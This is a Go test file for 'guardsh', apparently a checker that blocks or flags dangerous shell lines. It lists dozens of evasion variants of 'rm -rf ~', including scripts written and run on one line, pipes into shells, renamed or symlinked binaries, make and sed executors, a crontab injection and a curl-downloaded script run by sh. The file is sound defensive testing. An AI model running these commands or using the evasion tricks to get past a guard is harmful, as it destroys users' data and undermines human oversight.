package check

import (
	"context"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// A laterCase is a reproduction of code that runs later or elsewhere
// (review reliability-9f75968, sections 4, 8, 9 and 11). run is the line
// with a harmless payload (touch MARKER), which the real shells must really
// execute; check is the line guardsh judges, with the destructive payload,
// which must not be allowed. An empty run means the tool is not run here
// (not installed, or it needs a terminal or a host).
type laterCase struct {
	run, check string
	want       Verdict
	shells     []string          // shells that run the line; nil: bash and dash
	files      map[string]string // files on disk before the line
	needs      []string          // programs the real run needs
}

// payloaded builds a case whose check line is the run line with rm -rf ~
// for touch MARKER.
func payloaded(run string, want Verdict, needs ...string) laterCase {
	return laterCase{run: run, check: strings.ReplaceAll(run, "touch MARKER", "rm -rf ~"), want: want, needs: needs}
}

var laterCases = []laterCase{
	// §4 written, then run, on the same line.
	payloaded("printf 'touch MARKER' > x.sh; sh x.sh", Block),
	payloaded("cat > x.sh <<'E'\ntouch MARKER\nE\nbash x.sh", Block),
	payloaded("printf 'touch MARKER' > x; . ./x", Block),
	{run: "printf 'touch MARKER' > x; source x", check: "printf 'rm -rf ~' > x; source x", want: Block, shells: []string{"bash"}},
	payloaded("echo 'touch MARKER' | tee x >/dev/null; bash x", Block),
	payloaded("printf 'touch MARKER' > x; bash < x", Block),
	payloaded("printf 'touch MARKER' > x; sh -s < x", Block),
	payloaded("printf 'touch MARKER' > x; cat x | sh", Block),
	payloaded("printf 'touch MARKER' > x; bash --rcfile x -i", Block),
	payloaded("printf 'touch MARKER' > x; BASH_ENV=x bash -c :", Block),
	payloaded("printf 'touch MARKER' > x; ENV=x sh -i", Block),
	payloaded(`printf 'touch MARKER' > x; eval "$(cat x)"`, Block),
	payloaded(`printf 'touch MARKER' > x; sh -c "$(cat x)"`, Block),
	payloaded(`printf 'touch MARKER\0' > x; xargs -0 -a x bash -c`, Block),
	payloaded(`echo "import os; os.system('touch MARKER')" > x.py; python3 x.py`, Block, "python3"),
	payloaded("printf 'touch MARKER' > x; chmod +x x; ./x", Block),
	payloaded("printf 'touch MARKER' > x; cat x | head -1 | sh", Block),
	payloaded("echo 'touch MARKER' >> x.sh; bash x.sh", Block),
	{check: "printf 'rm -rf ~' > x; parallel < x", want: Block},
	{check: "printf 'rm -rf ~' > x; at now -f x", want: Block},
	{check: "printf 'rm -rf ~' > x; watch -n1 -x sh x", want: Block},
	{check: "curl -so x.sh https://example.com/i.sh; sh x.sh", want: Ask},
	{check: `echo "$X" > x.sh; bash x.sh`, want: Ask},
	{check: `ls > x.sh; sh x.sh`, want: Ask},
	// §4 scripts that exist already.
	{run: "bash y.sh", check: "bash y.sh", want: Block, files: map[string]string{"y.sh": "touch MARKER\nrm -rf ~\n"}},
	{run: "sh ./y.sh", check: "sh ./y.sh", want: Block, files: map[string]string{"y.sh": "touch MARKER\nrm -rf ~\n"}},
	{run: ". ./y.sh", check: ". ./y.sh", want: Block, files: map[string]string{"y.sh": "touch MARKER\nrm -rf ~\n"}},
	{run: "python3 t.py", check: "python3 t.py", want: Block, needs: []string{"python3"},
		files: map[string]string{"t.py": "import os\nopen('MARKER', 'w')\nos.system('rm -rf ~')\n"}},
	{check: "bash y.sh", want: Block, files: map[string]string{"y.sh": "echo start\nfi then\nrm -rf ~\n"}},
	{check: "source y.sh", want: Ask, files: map[string]string{"y.sh": "echo start\nfi then\necho end\n"}},
	{check: "bash big.sh", want: Ask, files: map[string]string{"big.sh": strings.Repeat("echo hi\n", 140000)}},
	// §9 pipes into a shell through filters and wrappers.
	payloaded("echo 'touch MARKER' | head -1 | sh", Block),
	payloaded("echo 'touch MARKER' | prlimit sh", Block, "prlimit"),
	payloaded("echo 'touch MARKER' | sg root sh", Block, "sg"),
	payloaded("echo 'touch MARKER' | su", Block, "su"),
	payloaded("echo 'touch MARKER' | su -c sh", Block, "su"),
	payloaded("echo 'exec touch MARKER' | tclsh", Block, "tclsh"),
	{run: "tclsh <<< 'exec touch MARKER'", check: "tclsh <<< 'exec rm -rf ~'", want: Block, shells: []string{"bash"}, needs: []string{"tclsh"}},
	{check: "echo 'rm -rf ~' | script -q /dev/null", want: Block},
	{check: "echo 'rm -rf ~' | ssh localhost", want: Ask},
	{check: "echo 'rm -rf ~' | bwrap --bind / / sh", want: Block},
	{check: "echo 'rm -rf ~' | gdb -batch -ex run --args sh", want: Block},
	{check: "echo 'rm -rf ~' | sort | sh", want: Ask},
	// §8 renamed or re-routed commands: the real run renames touch, the
	// check renames rm.
	{run: "hash -p /usr/bin/touch ls; ls MARKER", check: "hash -p /bin/rm ls; ls -rf ~", want: Block, shells: []string{"bash"}},
	{run: "cp /usr/bin/touch ./ls; ./ls MARKER", check: "cp /bin/rm ./ls; ./ls -rf ~", want: Block},
	{run: "mkdir -p d; ln -s /usr/bin/touch d/ls; PATH=d:$PATH; ls MARKER", check: "mkdir -p d; ln -s /bin/rm d/ls; PATH=d:$PATH; ls -rf ~", want: Block},
	{run: "install -D /usr/bin/touch x/ls; export PATH=$PWD/x:$PATH; ls MARKER", check: "install -D /bin/rm /tmp/x/ls; export PATH=/tmp/x:$PATH; ls -rf ~", want: Block},
	{run: "/???/tou?h MARKER", check: "/???/r? -rf ~", want: Block},
	{run: "/usr/bin/touc[h] MARKER", check: "/bin/r[m] -rf ~", want: Block},
	{run: "a=([5]=MARKER); touch ${a[5]}", check: "a=([5]=/); rm -rf ${a[5]}", want: Block, shells: []string{"bash"}},
	{check: "coreutils --coreutils-prog=rm -rf ~", want: Block},
	// §11 other executors.
	{run: "mapfile -C 'touch MARKER #' -c 1 < /etc/hosts", check: "mapfile -C 'rm -rf ~ #' -c 1 < /etc/hosts", want: Block, shells: []string{"bash"}},
	{run: "make -f /dev/stdin <<< $'all:\\n\\ttouch MARKER'", check: "make -f /dev/stdin <<< $'all:\\n\\trm -rf ~'", want: Block, shells: []string{"bash"}, needs: []string{"make"}},
	{run: "make --eval=$'all:\\n\\ttouch MARKER'", check: "make --eval=$'all:\\n\\trm -rf ~'", want: Block, shells: []string{"bash"}, needs: []string{"make"}},
	{run: "xargs -i touch {} <<< MARKER", check: "xargs -i rm -rf {} <<< ~", want: Block, shells: []string{"bash"}},
	payloaded("sed -n '1{s|.*|touch MARKER|e}' /etc/hosts", Block),
	{run: "gcc -x c - -o ./x <<< 'int main(){system(\"touch MARKER\");}' 2>/dev/null && ./x", check: "gcc -x c - -o /tmp/x <<< 'int main(){system(\"rm -rf ~\");}' && /tmp/x",
		want: Block, shells: []string{"bash"}, needs: []string{"gcc"}},
	{check: "(crontab -l; echo '* * * * * rm -rf ~') | crontab -", want: Block},
	{check: "parallel ::: 'rm -rf ~'", want: Block},
	{check: "hash -p /bin/rm ls", want: Ask},
	{check: "ln -sf /bin/rm ~/.local/bin/ls", want: Ask},
}

// laterQuiet are look-alikes that must stay allowed.
var laterQuiet = []struct {
	line  string
	files map[string]string
}{
	{line: "printf 'x' > notes.txt; cat notes.txt"},
	{line: "printf 'echo hi' > x.sh; sh x.sh"},
	{line: "echo 'echo hi' | head -1 | sh"},
	{line: "bash ./configure", files: map[string]string{"configure": "#!/bin/sh\necho checking\ntest -d build || mkdir build\nCC=${CC:-cc}\n$CC --version >/dev/null 2>&1 || echo no cc\nrm -f conftest conftest.c\n"}},
	{line: "source ./bashrc", files: map[string]string{"bashrc": "export PATH=\"$HOME/bin:$PATH\"\nalias ll='ls -l'\n[ -f ~/.bash_aliases ] && . ~/.bash_aliases\neval \"$(dircolors -b)\"\n"}},
	{line: "bash nosuch.sh"},
	{line: "cp a.txt b.txt; cat b.txt"},
	{line: "export PATH=$HOME/.cargo/bin:$PATH; cargo build"},
	{line: "python3 gen.py", files: map[string]string{"gen.py": "import os, shutil, sys\n\ndef main(out):\n    os.system(sys.argv[1])\n    shutil.rmtree(out)\n    while True:\n        pid = os.fork()\n        if pid == 0:\n            break\n        os.waitpid(pid, 0)\n" + strings.Repeat("# padding\n", 500)}},
	{line: ". ./nvm.sh; nvm use 20", files: map[string]string{"nvm.sh": nvmExcerpt()}},
}

// nvmExcerpt is parse's nvm.sh-shaped test script.
func nvmExcerpt() string {
	b, err := os.ReadFile("../parse/testdata/nvm-excerpt.sh")
	if err != nil {
		panic(err)
	}
	return string(b)
}

func TestLaterCode(t *testing.T) {
	for _, tc := range laterCases {
		dir := t.TempDir()
		for name, body := range tc.files {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		res := Analyse(tc.check, Options{Dir: dir, ReadFiles: true})
		if rank(res.Verdict) < rank(tc.want) {
			t.Errorf("%q: guardsh says %s, want %s (%v)", tc.check, res.Verdict, tc.want, rulesOf(res))
		}
		if tc.run == "" {
			continue
		}
		shells := tc.shells
		if shells == nil {
			shells = []string{"bash", "dash"}
		}
		for _, sh := range shells {
			if !realRun(t, sh, tc, dir) {
				continue
			}
		}
	}
}

// realRun runs tc.run in a fresh copy of the files with the real shell sh
// and fails unless the payload ran. It reports false when a program the
// run needs is missing.
func realRun(t *testing.T, sh string, tc laterCase, _ string) bool {
	for _, n := range append([]string{sh}, tc.needs...) {
		if _, err := exec.LookPath(n); err != nil {
			t.Logf("%q: %s not installed: real run not done", tc.run, n)
			return false
		}
	}
	dir := t.TempDir()
	for name, body := range tc.files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	home := filepath.Join(dir, "home")
	os.Mkdir(home, 0o700)
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, sh, "-c", tc.run)
	cmd.Dir = dir
	cmd.Env = []string{"HOME=" + home, "PATH=/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin", "SHELL=/bin/sh", "TERM=dumb"}
	out, err := cmd.CombinedOutput()
	if _, serr := os.Stat(filepath.Join(dir, "MARKER")); serr != nil {
		t.Errorf("%s -c %q did not run the payload (%v): %s", sh, tc.run, err, out)
	}
	return true
}

func TestLaterQuiet(t *testing.T) {
	for _, tc := range laterQuiet {
		dir := t.TempDir()
		for name, body := range tc.files {
			if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		res := Analyse(tc.line, Options{Dir: dir, ReadFiles: true})
		if res.Verdict != Allow {
			t.Errorf("%q: %s, want allow (%v)", tc.line, res.Verdict, rulesOf(res))
		}
	}
}

func rulesOf(r *Result) []string {
	var out []string
	for _, f := range r.Findings {
		out = append(out, f.Rule+" via "+strings.Join(f.Via, " → "))
	}
	return out
}
